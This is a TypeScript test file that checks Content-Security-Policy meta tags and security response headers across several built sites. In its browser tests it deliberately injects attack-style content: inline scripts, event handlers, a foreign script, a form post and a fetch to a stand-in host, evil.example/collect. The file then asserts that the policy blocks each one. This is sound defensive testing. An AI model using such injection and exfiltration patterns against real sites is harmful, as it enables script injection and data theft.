import { createHash } from "node:crypto";
import { describe, expect, inject, test } from "vitest";
import { complaintsOf, visit } from "../visit";
import { builtFiles, pathOfFile } from "./builtFiles";
import { readConfig } from "./pages";

const sites = inject("sites");
const folders = inject("folders");
const serviceUrl = inject("serviceUrl");

const pages = (["demo", "harbour", "subPath", "minimal", "services"] as const).flatMap((site) =>
  builtFiles(folders[site], ".html").map((file) => ({ site, ...file })),
);

describe.each(pages)("$site $path", ({ site, path, text }) => {
  const policy = unescapeHtml(
    /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(text)?.[1] ?? "",
  );

  test("carries a policy that its response repeats", async () => {
    // The policy comes before everything that it governs.
    expect(text.indexOf("Content-Security-Policy")).toBeLessThan(
      Math.min(text.indexOf("<style"), text.indexOf("<script"), text.indexOf("<link")),
    );
    const address = pathOfFile(path).slice(1);
    for (const spelling of new Set([address, address.replace(/\/$/, "")])) {
      const { headers } = await fetch(sites[site] + spelling);
      expect(headers.get("content-security-policy"), spelling).toBe(`${policy}; frame-ancestors 'none'`);
    }
  });

  test("allows its own scripts, its own styles by their content, and foreign origins that the config names", () => {
    const directives = parsePolicy(policy);
    expect(policy).not.toMatch(/unsafe-|\*|https?:(?=[ ;]|$)/);
    expect(directives["default-src"]).toEqual(["'none'"]);
    // The script that fetches the others; data is no script.
    const scripts = [...text.matchAll(/<script(?: data-[a-z]+="[^"]*")*>([\s\S]*?)<\/script>/g)];
    expect(scripts.length).toBe(1);
    expect(directives["script-src"]).toEqual(["'self'", ...scripts.map(([, script = ""]) => hash(script))]);
    expect(directives["base-uri"]).toEqual(["'none'"]);
    expect(directives["object-src"] ?? directives["default-src"]).toEqual(["'none'"]);

    const styles = [...text.matchAll(/<style[^>]*>([^<]*)<\/style>/g)].map(([, css = ""]) => hash(css));
    expect(styles.length).toBeGreaterThan(0);
    expect(directives["style-src"]?.toSorted()).toEqual(["'self'", ...styles].toSorted());

    const named = originsOf(site);
    const foreign = Object.values(directives)
      .flat()
      .filter((source) => /^https?:/.test(source));
    expect(foreign.filter((origin) => !named.has(origin))).toEqual([]);
  });
});

describe("the response headers", () => {
  test.each(["demo", "harbour", "subPath"] as const)("of %s protect every kind of file", async (site) => {
    for (const path of ["", "404.html", "page.json", "favicon.svg", "no/such/page"]) {
      const { headers } = await fetch(sites[site] + path);
      expect(Object.fromEntries(headers), path).toMatchObject({
        "x-content-type-options": "nosniff",
        "x-frame-options": "DENY",
        "referrer-policy": "strict-origin-when-cross-origin",
        "cross-origin-opener-policy": "same-origin",
        "strict-transport-security": expect.stringMatching(/^max-age=\d{8,}/) as string,
        "permissions-policy": expect.stringContaining("camera=()") as string,
      });
    }
  });
});

describe("the policy at work", () => {
  const violation = [/^console error: (?:CSP: |.*Content Security Policy)/];

  test("blocks scripts and styles that are not the site's", async () => {
    const page = await visit(sites.demo, { allowedErrors: violation });
    const blocked = page.evaluate(
      () =>
        new Promise<string[]>((resolve) => {
          // The policy stands in the page and in the response: each violation is told twice.
          const seen = new Set<string>();
          document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
            seen.add(`${effectiveDirective} ${blockedURI}`);
            if (seen.size === 6) resolve([...seen].toSorted());
          });
          const add = (html: string) => document.body.insertAdjacentHTML("beforeend", html);
          const script = document.createElement("script");
          script.textContent = "window.__pwned = 'inline script'";
          document.body.append(script);
          const foreign = document.createElement("script");
          foreign.src = "https://evil.example/script.js";
          document.body.append(foreign);
          add(`<button id="trap" onclick="window.__pwned = 'handler'">`);
          document.getElementById("trap")!.click();
          add(`<style>h1 { display: none }</style>`);
          add(`<p id="styled" style="position: fixed">x</p>`);
          add(`<img src="https://evil.example/pixel.gif">`);
        }),
    );
    expect(await blocked).toEqual([
      "img-src https://evil.example/pixel.gif",
      "script-src-attr inline",
      "script-src-elem https://evil.example/script.js",
      "script-src-elem inline",
      "style-src-attr inline",
      "style-src-elem inline",
    ]);
    expect(await page.evaluate(() => (window as { __pwned?: string }).__pwned)).toBeUndefined();
    expect(await page.getByRole("heading", { level: 1 }).isVisible()).toBe(true);
    expect(await page.locator("#styled").evaluate((element) => getComputedStyle(element).position)).toBe(
      "static",
    );
    expect(complaintsOf(page)).toEqual([]);
  });

  test("blocks requests, frames and forms that lead elsewhere", async () => {
    const page = await visit(sites.demo, { allowedErrors: violation });
    const refused = await page.evaluate(async () => {
      const fetched = await Promise.all(
        ["https://evil.example/collect", "data:text/plain,x"].map((url) =>
          fetch(url, { mode: "no-cors" }).then(
            () => `${url} was fetched`,
            () => "refused",
          ),
        ),
      );
      const violated = (directive: string, attempt: () => void) =>
        new Promise<string>((resolve) => {
          document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
            if (effectiveDirective === directive) resolve(directive);
          });
          attempt();
        });
      const add = (html: string) => document.body.insertAdjacentHTML("beforeend", html);
      const framed = await violated("frame-src", () => add(`<iframe src="https://evil.example/"></iframe>`));
      const sent = await violated("form-action", () => {
        add(`<form action="https://evil.example/" method="post" id="stolen"></form>`);
        document.querySelector<HTMLFormElement>("#stolen")!.requestSubmit();
      });
      return [...fetched, framed, sent];
    });
    expect(refused).toEqual(["refused", "refused", "frame-src", "form-action"]);
    expect(page.url()).toBe(sites.demo);
  });
});

/** The origins that stand anywhere in a config. */
function originsOf(site: keyof typeof sites): Set<string> {
  if (site === "minimal") return new Set();
  const text =
    site === "services"
      ? `${serviceUrl} ${folders.services}`
      : JSON.stringify(readConfig(site === "subPath" ? "demo" : site));
  const origins = new Set(text.match(/https?:\/\/[\w.:-]+/g));
  if (site === "services") origins.add(refusedOrigin());
  return origins;
}

/** The address at which nothing listens is known to the config of the services site alone. */
function refusedOrigin(): string {
  const { text } = builtFiles(folders.services, "page.json").find(({ path }) => path.startsWith("refused"))!;
  return /"url":"(http:\/\/127\.0\.0\.1:\d+)/.exec(text)![1]!;
}

function parsePolicy(policy: string): Record<string, string[]> {
  return Object.fromEntries(
    policy.split("; ").map((directive) => {
      const [name = "", ...sources] = directive.split(" ");
      return [name, sources];
    }),
  );
}

function hash(text: string): string {
  return `'sha256-${createHash("sha256").update(text).digest("base64")}'`;
}

function unescapeHtml(text: string): string {
  return text.replaceAll("&#39;", "'").replaceAll("&quot;", '"').replaceAll("&amp;", "&");
}
